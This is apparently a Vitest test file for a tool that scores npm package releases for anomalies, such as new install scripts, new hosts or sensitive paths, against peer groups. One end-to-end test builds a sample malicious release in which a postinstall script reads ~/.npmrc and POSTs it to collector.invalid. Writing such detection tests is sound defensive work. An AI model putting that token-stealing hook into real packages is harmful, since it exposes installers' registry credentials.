import { describe, expect, it } from 'vitest';
import { analyzeSide } from '../analyze-side.js';
import { computeDelta } from '../delta.js';
import { FEATURES, type ReleaseFeatures } from './features.js';
import { asModel, type FeatureRow, fitModel, percentileOf, totalSurprisal } from './model.js';
import { anomalyOfDiff, scoreReleaseAnomaly, shippedModel } from './score.js';

const zeros = (): Record<string, number> => Object.fromEntries(FEATURES.map((feature) => [feature.name, 0]));

/**
 * 400 ordinary releases: a patch touching 1–4 of ~20 files, every tenth a minor with a new
 * dependency, and in group `native/small` (only) an install script changed every fifth release.
 */
const training = (): FeatureRow[] =>
  Array.from({ length: 400 }, (_, i) => {
    const values = zeros();
    values.files_changed_share = ((i % 4) + 1) / 20;
    values.size_log_ratio = (i % 7) / 100;
    if (i % 10 === 0) {
      values.semver_jump = 1;
      values.new_dependencies = 1;
    }
    const native = i % 2 === 0;
    if (native && i % 5 === 0) values.install_script_changes = 1;
    return { peer: native ? 'native/small' : 'lib/small', values };
  });

const release = (peer: string, values: Record<string, number>, details = {}): ReleaseFeatures => {
  const [kind, size] = peer.split('/') as [ReleaseFeatures['peer']['kind'], ReleaseFeatures['peer']['size']];
  return { peer: { kind, size, key: peer }, values: { ...zeros(), ...values }, details };
};

describe('scoreReleaseAnomaly', () => {
  const model = fitModel(training(), { thresholdQuantile: 0.99 });

  it('calls an ordinary patch ordinary and says nothing stands out', () => {
    const result = scoreReleaseAnomaly(release('lib/small', { files_changed_share: 0.1 }), model);
    expect(result.unusual).toBe(false);
    expect(result.reasons).toEqual([]);
    expect(result.summary).toMatch(/^ordinary release: .*nothing stands out$/);
    expect(result.score).toBeLessThan(0.9);
  });

  it('calls a turn unusual and names what made it so, most unusual first', () => {
    const result = scoreReleaseAnomaly(
      release(
        'lib/small',
        { gains_install_scripts: 1, install_script_changes: 1, new_hosts: 2, files_changed_share: 0.1 },
        {
          new_hosts: ['collector.invalid', 'c2.invalid'],
          install_script_changes: ['postinstall: node x.js'],
        },
      ),
      model,
    );
    expect(result.unusual).toBe(true);
    expect(result.surprisal).toBeGreaterThanOrEqual(result.threshold);
    expect(result.score).toBe(1);
    expect(result.peerGroup).toBe('lib/small');
    const named = result.reasons.map((reason) => reason.feature);
    expect(named).toEqual(
      expect.arrayContaining(['gains_install_scripts', 'install_script_changes', 'new_hosts']),
    );
    expect(named).not.toContain('files_changed_share');
    const contributions = result.reasons.map((reason) => reason.contribution);
    expect(contributions).toEqual([...contributions].sort((a, b) => b - a));
    const hosts = result.reasons.find((reason) => reason.feature === 'new_hosts')!;
    expect(hosts.description).toBe('new hosts: collector.invalid, c2.invalid');
    expect(hosts.typical).toMatch(/of similar releases \(lib\/small\) reach 2$/);
    expect(result.summary).toMatch(/^unusual release: .* because: /);
    expect(result.summary).toContain('collector.invalid');
  });

  it('judges a release against its peer group: install-script changes are routine for native packages', () => {
    const change = { install_script_changes: 1 };
    const lib = scoreReleaseAnomaly(release('lib/small', change), model);
    const native = scoreReleaseAnomaly(release('native/small', change), model);
    expect(native.surprisal).toBeLessThan(lib.surprisal);
    // An unknown group falls back to the global distribution.
    const unknown = scoreReleaseAnomaly(release('types/large', change), model);
    expect(unknown.surprisal).toBeGreaterThan(native.surprisal);
    expect(unknown.surprisal).toBeLessThan(lib.surprisal);
  });

  it('counts correlated volume features once, by the largest', () => {
    const one = totalSurprisal({ peer: 'lib/small', values: { ...zeros(), files_changed_share: 1 } }, model);
    const all = totalSurprisal(
      {
        peer: 'lib/small',
        values: { ...zeros(), files_changed_share: 1, size_log_ratio: 2, files_added_share: 1 },
      },
      model,
    );
    expect(all).toBeCloseTo(one, 5);
  });

  it('adds up independent evidence: a new threat rule and the score it adds both count', () => {
    const rule = totalSurprisal({ peer: 'lib/small', values: { ...zeros(), new_threat_rules: 1 } }, model);
    const both = totalSurprisal(
      { peer: 'lib/small', values: { ...zeros(), new_threat_rules: 1, threat_score_increase: 8 } },
      model,
    );
    expect(rule).toBeGreaterThan(0);
    expect(both).toBeGreaterThan(rule + 1);
  });

  it('ignores a feature the training data never had values for', () => {
    const rows = training().map((row) => {
      const values = { ...row.values };
      delete values.own_version_jump_rarity;
      return { ...row, values };
    });
    const fitted = fitModel(rows);
    const result = scoreReleaseAnomaly(release('lib/small', { own_version_jump_rarity: 5 }), fitted);
    expect(result.reasons).toEqual([]);
  });
});

describe('fitModel', () => {
  it('is deterministic and small', () => {
    const a = JSON.stringify(fitModel(training()));
    expect(JSON.stringify(fitModel(training()))).toBe(a);
    expect(a.length).toBeLessThan(100_000);
  });

  it('sets the threshold so the chosen share of training releases stays below it', () => {
    const rows = training();
    const model = fitModel(rows, { thresholdQuantile: 0.95 });
    const flagged = rows.filter((row) => totalSurprisal(row, model) >= model.threshold).length;
    expect(flagged / rows.length).toBeLessThanOrEqual(0.1);
    expect(percentileOf(0, model)).toBeLessThan(percentileOf(model.threshold, model));
    expect(percentileOf(model.threshold + 100, model)).toBe(1);
  });
});

describe('the shipped model', () => {
  it('loads, knows every feature and stays under 100 KB', () => {
    const model = shippedModel();
    expect(Object.keys(model.edges).sort()).toEqual(FEATURES.map((feature) => feature.name).sort());
    expect(JSON.stringify(model).length).toBeLessThan(100_000);
    expect(model.threshold).toBeGreaterThan(0);
  });

  it('scores a real diff end to end', () => {
    const files = (entries: Record<string, string>) =>
      new Map(
        Object.entries(entries).map(([path, text]) => [path, { bytes: new TextEncoder().encode(text) }]),
      );
    const from = analyzeSide(
      files({ 'package.json': '{"name":"kit","version":"1.0.0"}', 'index.js': 'module.exports = 1;\n' }),
    );
    const to = analyzeSide(
      files({
        'package.json': '{"name":"kit","version":"1.0.1","scripts":{"postinstall":"node i.js"}}',
        'index.js': 'module.exports = 1;\n',
        'i.js': [
          "const os = require('os'); const fs = require('fs'); const https = require('https');",
          "const t = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');",
          "https.request('https://collector.invalid/t', { method: 'POST' }).end(t);",
        ].join('\n'),
      }),
    );
    const result = anomalyOfDiff(from, to, computeDelta(from, to));
    expect(result.unusual).toBe(true);
    expect(result.summary).toContain('~/.npmrc');
    expect(result.reasons.map((reason) => reason.description)).toEqual(
      expect.arrayContaining(['new sensitive paths: ~/.npmrc', 'gains install scripts: postinstall']),
    );
  });

  it('rejects a damaged model', () => {
    expect(() => asModel({ version: 2 })).toThrow(/not a version 1 model/);
    expect(() => asModel(null)).toThrow();
  });
});
